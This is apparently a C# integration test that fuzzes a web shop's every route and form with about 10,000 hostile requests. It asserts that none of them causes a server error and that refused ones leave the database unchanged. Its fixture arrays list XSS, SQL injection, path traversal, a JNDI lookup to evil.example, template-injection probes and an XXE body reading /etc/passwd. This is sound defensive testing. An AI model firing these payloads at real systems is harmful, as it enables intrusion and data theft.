using System.Diagnostics;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using AngleSharp.Html.Dom;
using AngleSharp.Html.Parser;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Routing;
using Microsoft.Data.Sqlite;
using Microsoft.Extensions.DependencyInjection;
using Nexus.IntegrationTests.Identity;
using Nexus.Shared.Abstractions.Security;
using Nexus.Testing.Hosting;

namespace Nexus.IntegrationTests.Security;

/// <summary>
/// The hostile-input sweep of issue 13's "done when": at least 10,000 generated requests against a real host (in
/// memory, real SQLite) — every route the endpoint data sources hold (pages and APIs) with hostile route values,
/// every form field found on the GET pages (parsed, posted with a valid antiforgery token as visitor, customer and
/// admin), oversized and malformed bodies, odd methods, bad encodings (invalid UTF-8, overlong forms, NUL), unknown
/// hosts and hostile headers. No answer may be a 5xx, and a refused request (4xx) writes nothing: the database's
/// <c>PRAGMA data_version</c> (which moves on every commit by another connection) is read around each refused form
/// post, and a checksum of every table is compared before and after the requests that are refused by construction.
/// </summary>
internal sealed partial class HostileInputSweepTests
{
    // Values for fields, route parameters and query strings: empty, huge, control characters, markup, SQL, paths,
    // direction overrides, numbers out of range, odd dates, foreign URLs.
    private static readonly string[] HostileValues =
    [
        "", " ", "\0", "a\0b", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1' --",
        "1; DROP TABLE identity_users; --", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%", "%%%",
        "\u202Egnp.exe", "\uFEFF", "𝕏😀 emoji", "-1", "0", "99999999999999999999999", "1e309", "NaN", "-0.0000001",
        "2026-13-45", "0001-01-01", "9999-12-31T23:59:59", "null", "true", "[]", "{\"a\":", "http://evil.example/",
        "javascript:alert(1)", "//evil.example", "a@b", "x@" + new string('y', 300) + ".example", new string('A', 5000),
        new string('Z', 100_000), "\r\nSet-Cookie: x=1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "@(1+1)",
    ];

    // Percent-encoded byte sequences that are not valid UTF-8: lone continuation bytes, an overlong '/', an overlong
    // NUL, a surrogate half, 0xFF; and a raw NUL.
    private static readonly string[] BadEncodings = ["%80", "%C0%AF", "%C0%80", "%E0%80%AF", "%ED%A0%80", "%FF%FE", "%F8%88%80%80%80", "%00", "%25%", "%u0041"];

    private static readonly string[] OddMethods = ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "CONNECT", "FOO", "HEAD"];

    private NexusHostFactory host = null!;
    private string databasePath = null!;
    private readonly Dictionary<string, HttpClient> clients = [];
    private readonly List<string> failures = [];
    private int sent;
    private SqliteConnection? monitor;

    [OneTimeSetUp]
    public async Task StartHost()
    {
        // Rate limits out of the way, so the requests reach the pages and handlers instead of the limiter.
        host = new NexusHostFactory(new Dictionary<string, string?>
        {
            ["Identity:SignInPerMinute"] = "10000",
            ["Identity:RegisterPerMinute"] = "10000",
            ["Identity:PasswordResetPerMinute"] = "10000",
            ["Identity:SignInPerEmailPerMinute"] = "10000",
            ["Identity:Tokens:PerUserPerMinute"] = "10000",
            ["Modules:Licensing:ActivationRequestsPerMinute"] = "10000",
        }).WithTestAuthentication();
        _ = host.Server;
        databasePath = Path.Combine(host.DataPath, "nexus.db");
        var customer = await IdentityTestUsers.CreateAsync(host, $"sweep-customer-{Guid.NewGuid():N}@example.com", NexusRoles.Customer);
        var admin = await IdentityTestUsers.CreateAsync(host, $"sweep-admin-{Guid.NewGuid():N}@example.com", NexusRoles.Admin);
        clients["visitor"] = host.CreateClient(new() { AllowAutoRedirect = false });
        clients["customer"] = host.CreateClientAs(customer.Id, NexusRoles.Customer);
        clients["admin"] = host.CreateClientAs(admin.Id, NexusRoles.Admin);
    }

    [OneTimeTearDown]
    public void StopHost()
    {
        foreach (var client in clients.Values)
        {
            client.Dispose();
        }

        monitor?.Dispose();
        host.Dispose();
    }

    [Test]
    public async Task Ten_thousand_hostile_requests_get_no_server_error_and_refused_ones_write_nothing()
    {
        var clock = Stopwatch.StartNew();
        var routes = Routes();
        routes.Select(r => r.Pattern).Should().Contain(["/account/login", "/admin/users", "/api/identity/tokens"], "the sweep enumerates pages and APIs");

        // Warm-up: every page once per role (first visits may write, e.g. a new authenticator key), collecting forms.
        var forms = new List<(string Who, Form Form)>();
        foreach (var (who, client) in clients)
        {
            foreach (var path in routes.Where(r => r.Methods.Contains("GET") && !r.Pattern.Contains('{', StringComparison.Ordinal)).Select(r => r.Pattern).Distinct())
            {
                using var response = await SendAsync(client, who, HttpMethod.Get, path);
                if (response.StatusCode == HttpStatusCode.OK && response.Content.Headers.ContentType?.MediaType == "text/html")
                {
                    forms.AddRange(FormsOf(path, await response.Content.ReadAsStringAsync()).Select(f => (who, f)));
                }
            }
        }

        forms.Should().Contain(f => f.Form.Action == "/account/login", "the sweep posts the sign-in form");
        forms.Select(f => f.Who).Distinct().Should().BeEquivalentTo(["visitor", "customer", "admin"]);

        // Part 1: requests refused by construction — foreign hosts, odd methods, posts without an antiforgery token,
        // bad encodings, hostile headers, malformed and oversized bodies, every route with hostile values. All of
        // them together must leave every table as it was.
        await QuietAsync();
        var before = await ChecksumAsync();
        var versionBefore = await DataVersionAsync();
        await RunRefusedByConstructionAsync(routes, forms);
        await QuietAsync();
        var after = await ChecksumAsync();
        var changed = before.Keys.Union(after.Keys).Where(t => before.GetValueOrDefault(t) != after.GetValueOrDefault(t)).Except(RefusalLogs).ToList();
        changed.Should().BeEmpty($"requests that were all refused wrote to these tables (data_version {versionBefore} -> {await DataVersionAsync()})");

        // Part 2: every form field with hostile values, a genuine antiforgery token and the other fields filled in.
        // Accepted ones may write (an address named <script> is a valid address); refused ones may not.
        await RunFormFieldsAsync(forms);

        TestContext.Out.WriteLine($"BENCH hostile-input sweep: {sent} requests, {forms.Count} forms, {routes.Count} routes in {clock.Elapsed.TotalSeconds:F1} s");
        failures.Should().BeEmpty();
        sent.Should().BeGreaterThanOrEqualTo(10_000);
    }

    private async Task RunRefusedByConstructionAsync(List<Route> routes, List<(string Who, Form Form)> forms)
    {
        var paths = routes.Select(r => r.Pattern).Distinct().ToList();

        // Every route × every method it takes × every role, with hostile route values; posts carry no token.
        foreach (var route in routes)
        {
            foreach (var (who, client) in clients)
            {
                foreach (var value in RouteValues(route.Pattern))
                {
                    foreach (var method in route.Methods.Where(m => m != "GET" || value.Length > 0))
                    {
                        using var content = method == "GET" ? null : new StringContent("a=1&b=%FF", Encoding.UTF8, "application/x-www-form-urlencoded");
                        using var _ = await SendAsync(client, who, new HttpMethod(method), value, content, refusedOnly: method != "GET");
                    }
                }
            }
        }

        // Odd methods on every route.
        foreach (var path in paths.Select(Fill))
        {
            foreach (var method in OddMethods)
            {
                using var _ = await SendAsync(clients["customer"], "customer", new HttpMethod(method), path, refusedOnly: method != "HEAD");
            }
        }

        // Unknown hosts on every route, both methods: 400 before anything runs.
        foreach (var path in paths.Select(Fill))
        {
            foreach (var method in new[] { HttpMethod.Get, HttpMethod.Post })
            {
                using var content = method == HttpMethod.Post ? new StringContent("x=1", Encoding.UTF8, "application/x-www-form-urlencoded") : null;
                using var _ = await SendAsync(clients["admin"], "admin", method, path, content, configure: r => r.Headers.Host = "evil.example", expect: HttpStatusCode.BadRequest);
            }
        }

        // Bad encodings in the path and the query of every route.
        foreach (var path in paths.Select(Fill))
        {
            foreach (var bad in BadEncodings)
            {
                using var inPath = await SendAsync(clients["visitor"], "visitor", HttpMethod.Get, path.TrimEnd('/') + "/" + bad);
                using var inQuery = await SendAsync(clients["customer"], "customer", HttpMethod.Get, path + "?q=" + bad + "&handler=" + bad + "&returnUrl=" + bad);
            }
        }

        // Hostile headers on every route.
        foreach (var path in paths.Select(Fill))
        {
            foreach (var (name, value) in HostileHeaders())
            {
                using var _ = await SendAsync(clients["visitor"], "visitor", HttpMethod.Get, path, configure: r => r.Headers.TryAddWithoutValidation(name, value));
            }
        }

        // Every form without its token, with a stale one, and with the wrong content type.
        foreach (var (who, form) in forms)
        {
            foreach (var (token, type) in new[] { ((string?)null, "application/x-www-form-urlencoded"), ("CfDJ8-forged", "application/x-www-form-urlencoded"), (form.Token, "text/plain"), (form.Token, "application/json") })
            {
                var body = Encode(form.Fields.Select(f => (f.Name, f.Value)).Append(("__RequestVerificationToken", token ?? string.Empty)).Where(f => token is not null || f.Item1 != "__RequestVerificationToken"));
                using var content = new StringContent(body, Encoding.UTF8);
                content.Headers.ContentType = new(type);
                using var _ = await SendAsync(clients[who], who, HttpMethod.Post, form.Action, content, refusedOnly: true);
            }
        }

        // Malformed and oversized bodies on every route that takes them.
        foreach (var route in routes.Where(r => r.Methods.Any(m => m is "POST" or "PUT" or "PATCH" or "DELETE")))
        {
            var path = Fill(route.Pattern);
            foreach (var method in route.Methods.Where(m => m != "GET"))
            {
                foreach (var (mediaType, body) in MalformedBodies())
                {
                    using var content = new ByteArrayContent(body);
                    content.Headers.TryAddWithoutValidation("Content-Type", mediaType);
                    using var _ = await SendAsync(clients["admin"], "admin", new HttpMethod(method), path, content, refusedOnly: true,
                        configure: r => r.Headers.TryAddWithoutValidation("X-Nexus-Bridge", "1"));
                }
            }
        }
    }

    private async Task RunFormFieldsAsync(List<(string Who, Form Form)> forms)
    {
        foreach (var (who, form) in forms)
        {
            var client = clients[who];
            foreach (var field in form.Fields.Where(f => f.Name != "__RequestVerificationToken"))
            {
                var values = HostileValues.Select(v => Uri.EscapeDataString(v)).Concat(BadEncodings);
                foreach (var value in values)
                {
                    var body = string.Join('&', form.Fields.Select(f => Uri.EscapeDataString(f.Name) + "=" + (f.Name == field.Name ? value : Uri.EscapeDataString(f.Value))));
                    using var content = new StringContent(body, Encoding.UTF8, "application/x-www-form-urlencoded");
                    using var _ = await SendAsync(client, who, HttpMethod.Post, form.Action, content, watchWrites: true);
                }
            }

            // Raw invalid UTF-8 bytes (not percent-encoded), a field repeated 5,000 times and an unknown field.
            var raw = Encoding.ASCII.GetBytes(Encode(form.Fields.Select(f => (f.Name, f.Value))) + "&x=");
            using var rawContent = new ByteArrayContent([.. raw, 0xC0, 0xAF, 0xFF, 0x00, 0xED, 0xA0, 0x80]);
            rawContent.Headers.TryAddWithoutValidation("Content-Type", "application/x-www-form-urlencoded");
            using var rawResponse = await SendAsync(client, who, HttpMethod.Post, form.Action, rawContent, watchWrites: true);
            var repeated = Encode(form.Fields.Select(f => (f.Name, f.Value))) + string.Concat(Enumerable.Repeat("&" + Uri.EscapeDataString(form.Fields.Last().Name) + "=x", 5000));
            using var repeatedContent = new StringContent(repeated, Encoding.UTF8, "application/x-www-form-urlencoded");
            using var repeatedResponse = await SendAsync(client, who, HttpMethod.Post, form.Action, repeatedContent, watchWrites: true);
        }
    }

    private async Task<HttpResponseMessage> SendAsync(
        HttpClient client,
        string who,
        HttpMethod method,
        string path,
        HttpContent? content = null,
        bool refusedOnly = false,
        bool watchWrites = false,
        HttpStatusCode? expect = null,
        Action<HttpRequestMessage>? configure = null)
    {
        using var request = new HttpRequestMessage(method, path) { Content = content };
        configure?.Invoke(request);
        var version = watchWrites ? await DataVersionAsync() : 0;
        HttpResponseMessage response;
        try
        {
            response = await client.SendAsync(request);
        }
        catch (InvalidOperationException ex) when (ex.Message.Contains("null characters", StringComparison.Ordinal))
        {
            // The in-memory server refuses a NUL in the request target before the app sees it, as Kestrel does (400).
            sent++;
            return new HttpResponseMessage(HttpStatusCode.BadRequest);
        }
        catch (Exception ex) when (ex is HttpRequestException or InvalidOperationException or IOException)
        {
            // TestServer surfaces an exception the app did not handle as the request failing.
            failures.Add($"{who} {method} {Short(path)}: the server failed: {ex.GetType().Name}: {ex.Message}");
            sent++;
            return new HttpResponseMessage(HttpStatusCode.InternalServerError);
        }

        sent++;
        var status = (int)response.StatusCode;
        if (status >= 500)
        {
            failures.Add($"{who} {method} {Short(path)} -> {status}");
        }
        else if (expect is { } expected && response.StatusCode != expected)
        {
            failures.Add($"{who} {method} {Short(path)} -> {status}, expected {(int)expected}");
        }
        else if (refusedOnly && status is >= 200 and < 300 && method != HttpMethod.Options && !IsProbe(path) && !IsLiveChannel(path))
        {
            failures.Add($"{who} {method} {Short(path)} -> {status}: a request refused by construction was accepted");
        }

        if (watchWrites && status >= 400 && await DataVersionAsync() != version && await StillWritesWhenRepeatedAsync(client, request, content))
        {
            failures.Add($"{who} {method} {Short(path)} -> {status} and wrote to the database");
        }

        return response;
    }

    // A commit during a refused request may be an event handler finishing an earlier accepted one: wait until the
    // database is quiet, then send the same request again and see whether it commits again.
    private async Task<bool> StillWritesWhenRepeatedAsync(HttpClient client, HttpRequestMessage original, HttpContent? content)
    {
        await QuietAsync();
        using var again = new HttpRequestMessage(original.Method, original.RequestUri);
        foreach (var header in original.Headers)
        {
            again.Headers.TryAddWithoutValidation(header.Key, header.Value);
        }

        if (content is not null)
        {
            again.Content = new ByteArrayContent(await content.ReadAsByteArrayAsync());
            foreach (var header in content.Headers)
            {
                again.Content.Headers.TryAddWithoutValidation(header.Key, header.Value);
            }
        }

        var version = await DataVersionAsync();
        using var response = await client.SendAsync(again);
        return (int)response.StatusCode >= 400 && await DataVersionAsync() != version;
    }

    private List<Route> Routes() =>
        host.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Select(e => new Route("/" + (e.RoutePattern.RawText ?? string.Empty).TrimStart('/'), Methods(e)))
            .Where(r => !r.Pattern.StartsWith("/hangfire", StringComparison.OrdinalIgnoreCase))
            .DistinctBy(r => (r.Pattern, string.Join(',', r.Methods)))
            .ToList();

    private static string[] Methods(RouteEndpoint endpoint) =>
        endpoint.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods is { Count: > 0 } methods ? [.. methods] : ["GET", "POST"];

    // The route itself and, for each parameter, hostile values (the rest well-formed).
    private static IEnumerable<string> RouteValues(string pattern)
    {
        yield return Fill(pattern);
        if (!pattern.Contains('{', StringComparison.Ordinal))
        {
            yield return pattern + "?handler=Nope&returnUrl=https%3A%2F%2Fevil.example&page=-1";
            yield break;
        }

        foreach (var value in new[] { "0", "-1", "99999999999999999999", "00000000-0000-0000-0000-000000000000", "%00", "%FF", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3E", new string('a', 3000), "1.5", "%C0%AF" })
        {
            yield return "/" + RouteParameter().Replace(pattern.TrimStart('/'), value);
        }
    }

    private static string Fill(string pattern) =>
        "/" + RouteParameter().Replace(pattern.TrimStart('/'), m => m.Value.Contains(":int", StringComparison.Ordinal) || m.Value.Contains(":long", StringComparison.Ordinal) ? "1" : Guid.NewGuid().ToString());

    private static IEnumerable<(string Name, string Value)> HostileHeaders() =>
    [
        ("Cookie", "nexus.auth=garbage%%; .AspNetCore.Antiforgery.x=" + new string('A', 4000)),
        ("Accept-Language", "xx-INVALID;q=abc, *;q=2, " + new string('e', 500)),
        ("Accept", "*/*;q=garbage, text/html;level=\u00ff"),
        ("X-Forwarded-For", "999.999.1.1, ::ffff:, <script>"),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-Proto", "javascript"),
        ("Authorization", "Bearer a.b.c"),
        ("Authorization", "Bearer " + new string('A', 8000)),
        ("Authorization", "Basic !!!"),
        ("Origin", "null"),
        ("Referer", "javascript:alert(1)"),
        ("Range", "bytes=999999999-1"),
        ("If-None-Match", "\"\0\""),
        ("If-Modified-Since", "yesterday"),
        ("X-Correlation-Id", new string('c', 5000)),
        ("X-Correlation-Id", "../../<script>"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("Sec-Fetch-Site", "cross-site"),
        ("X-Nexus-Fragment", "1"),
        ("Content-Length", "-1"),
    ];

    private static IEnumerable<(string MediaType, byte[] Body)> MalformedBodies()
    {
        yield return ("application/json", "{\"audience\":"u8.ToArray());
        yield return ("application/json", Encoding.UTF8.GetBytes(new string('[', 10_000) + new string(']', 10_000)));
        yield return ("application/json", Encoding.UTF8.GetBytes("{\"audience\":\"" + new string('x', 2_000_000) + "\"}"));
        yield return ("application/json", [0x7B, 0x22, 0xC0, 0xAF, 0xFF, 0x22, 0x3A, 0x00, 0x7D]);
        yield return ("application/json", "{\"licenseKey\":123,\"deviceId\":[],\"audience\":{}}"u8.ToArray());
        yield return ("application/json; charset=ebcdic", "{}"u8.ToArray());
        yield return ("application/x-www-form-urlencoded", Encoding.ASCII.GetBytes(string.Join('&', Enumerable.Range(0, 5000).Select(i => $"f{i}=v"))));
        yield return ("application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("big=" + new string('b', 5_000_000)));
        yield return ("multipart/form-data", "--x\r\n"u8.ToArray());
        yield return ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nunterminated"u8.ToArray());
        yield return ("text/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"u8.ToArray());
        yield return ("application/octet-stream", RandomNumberGenerator.GetBytes(64 * 1024));
    }

    private static List<Form> FormsOf(string pagePath, string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        var forms = new List<Form>();
        foreach (var form in document.Forms.Where(f => string.Equals(f.Method, "post", StringComparison.OrdinalIgnoreCase)))
        {
            var action = form.GetAttribute("action");
            var target = string.IsNullOrEmpty(action) ? pagePath : action;
            if (!target.StartsWith('/') || target.StartsWith("//", StringComparison.Ordinal))
            {
                continue;
            }

            var fields = new List<Field>();
            foreach (var element in form.Elements)
            {
                switch (element)
                {
                    case IHtmlInputElement input when !string.IsNullOrEmpty(input.Name) && input.Type is not ("submit" or "button" or "image" or "file"):
                        if (input.Type is "checkbox" or "radio" && !input.IsChecked && fields.Any(f => f.Name == input.Name))
                        {
                            break;
                        }

                        fields.Add(new Field(input.Name!, input.Type is "checkbox" && string.IsNullOrEmpty(input.GetAttribute("value")) ? "true" : PlausibleValue(input.Name!, input.Type, input.Value)));
                        break;
                    case IHtmlTextAreaElement area when !string.IsNullOrEmpty(area.Name):
                        fields.Add(new Field(area.Name!, string.IsNullOrEmpty(area.Value) ? "text" : area.Value));
                        break;
                    case IHtmlSelectElement select when !string.IsNullOrEmpty(select.Name):
                        fields.Add(new Field(select.Name!, select.Options.FirstOrDefault()?.Value ?? string.Empty));
                        break;
                    case IHtmlButtonElement button when !string.IsNullOrEmpty(button.Name):
                        fields.Add(new Field(button.Name!, button.Value));
                        break;
                }
            }

            var token = fields.FirstOrDefault(f => f.Name == "__RequestVerificationToken")?.Value;
            if (fields.Count > 0)
            {
                forms.Add(new Form(System.Net.WebUtility.HtmlDecode(target), fields, token));
            }
        }

        return forms;
    }

    private static string PlausibleValue(string name, string? type, string? value)
    {
        if (!string.IsNullOrEmpty(value))
        {
            return value;
        }

        return type switch
        {
            "email" => "someone@example.com",
            "password" => "Not-The-Password-1",
            "number" => "1",
            "date" => "2026-01-01",
            _ when name.Contains("mail", StringComparison.OrdinalIgnoreCase) => "someone@example.com",
            _ => "text",
        };
    }

    private static string Encode(IEnumerable<(string Name, string Value)> fields) =>
        string.Join('&', fields.Select(f => Uri.EscapeDataString(f.Name) + "=" + Uri.EscapeDataString(f.Value)));

    // Health probes and the error and status pages answer any method with text and change nothing (docs/security.md, item 11).
    private static bool IsProbe(string path) =>
        path.StartsWith("/healthz", StringComparison.Ordinal) || path.StartsWith("/ready", StringComparison.Ordinal)
        || path.StartsWith("/error", StringComparison.Ordinal) || path.StartsWith("/status/", StringComparison.Ordinal);

    // The live channel's negotiation (SignalR) answers a token-less POST by design: it hands out a connection id and
    // writes nothing (the table checksums still hold); the hub checks the origin instead (decision 0026).
    private static bool IsLiveChannel(string path) => path.StartsWith("/hubs/shop", StringComparison.Ordinal);

    private static string Short(string path) => path.Length > 120 ? path[..120] + "…" : path;

    private SqliteConnection Open()
    {
        var connection = new SqliteConnection(new SqliteConnectionStringBuilder { DataSource = databasePath, Mode = SqliteOpenMode.ReadOnly, Pooling = false }.ToString());
        connection.Open();
        return connection;
    }

    // Moves whenever another connection commits (https://sqlite.org/pragma.html#pragma_data_version).
    private async Task<long> DataVersionAsync()
    {
        monitor ??= Open();
        await using var command = monitor.CreateCommand();
        command.CommandText = "PRAGMA data_version";
        return (long)(await command.ExecuteScalarAsync())!;
    }

    // Waits until nothing has committed for a few polls (event handlers of earlier requests done); not an assertion.
    private async Task QuietAsync()
    {
        var last = await DataVersionAsync();
        var quietPolls = 0;
        for (var i = 0; i < 200 && quietPolls < 4; i++)
        {
            await Task.Delay(100);
            var now = await DataVersionAsync();
            quietPolls = now == last ? quietPolls + 1 : 0;
            last = now;
        }
    }

    /// <summary>
    /// Tables whose purpose is to record refusals: the payment webhook log keeps every delivery, refused ones too, with
    /// the reason (docs/decisions/0019). Nothing else may change.
    /// </summary>
    private static readonly string[] RefusalLogs = ["payments_webhook_deliveries"];

    // Row count and a hash of every row of every table.
    private async Task<Dictionary<string, string>> ChecksumAsync()
    {
        await using var connection = Open();
        var tables = new List<string>();
        await using (var list = connection.CreateCommand())
        {
            list.CommandText = "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name";
            await using var reader = await list.ExecuteReaderAsync();
            while (await reader.ReadAsync())
            {
                tables.Add(reader.GetString(0));
            }
        }

        var sums = new Dictionary<string, string>();
        foreach (var table in tables)
        {
            await using var select = connection.CreateCommand();
            select.CommandText = $"SELECT * FROM \"{table.Replace("\"", "\"\"", StringComparison.Ordinal)}\" ORDER BY rowid";
            using var hash = IncrementalHash.CreateHash(HashAlgorithmName.SHA256);
            var rows = 0;
            try
            {
                await using var reader = await select.ExecuteReaderAsync();
                while (await reader.ReadAsync())
                {
                    rows++;
                    for (var i = 0; i < reader.FieldCount; i++)
                    {
                        hash.AppendData(Encoding.UTF8.GetBytes(Convert.ToString(reader.GetValue(i), System.Globalization.CultureInfo.InvariantCulture) + "\u001f"));
                    }
                }
            }
            catch (SqliteException)
            {
                // WITHOUT ROWID tables: unordered is fine for a same-process before/after comparison.
                select.CommandText = $"SELECT count(*) FROM \"{table.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
                rows = Convert.ToInt32(await select.ExecuteScalarAsync(), System.Globalization.CultureInfo.InvariantCulture);
            }

            sums[table] = $"{rows}:{Convert.ToHexString(hash.GetCurrentHash())}";
        }

        return sums;
    }

    private sealed record Route(string Pattern, string[] Methods);

    private sealed record Field(string Name, string Value);

    private sealed record Form(string Action, List<Field> Fields, string? Token);

    [GeneratedRegex(@"\{[^}]+\}")]
    private static partial Regex RouteParameter();
}
